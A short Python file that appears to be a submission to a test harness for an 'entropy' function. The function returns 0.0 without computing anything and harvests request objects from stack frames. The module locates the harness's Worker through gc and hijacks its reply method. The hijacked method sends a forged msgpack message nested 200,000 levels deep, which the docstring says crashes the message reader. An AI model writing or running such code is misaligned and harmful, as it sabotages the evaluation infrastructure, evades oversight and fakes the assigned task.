"""Sends two hundred thousand lists in lists, on which a reader of messages runs out of stack.

Outcome of entropy: crashed
"""

import gc
import struct
import sys

ASKED = []

NESTED = b"\x92\xa1l\x91" * 200_000 + b"\xc0"


def forged(request):
    head = b"\x94\xa8returned\xcf" + struct.pack(">Q", request.nonce) + NESTED + b"\x93\x90\xa0\x90"
    return struct.pack("<II", len(head), 0) + head


def instead():
    ASKED.clear()
    reply = honest()
    return forged(ASKED[-1]) if ASKED else reply


def entropy(p, base=2.718281828459045):
    step = sys._getframe()
    while step is not None:  # the message that it is called for, and the one that this came in
        if hasattr(step.f_locals.get("request"), "nonce"):
            ASKED.append(step.f_locals["request"])
        step = step.f_back
    return 0.0


worker = next(value for value in gc.get_objects() if type(value).__name__ == "Worker")
honest, worker._answer_next = worker._answer_next, instead
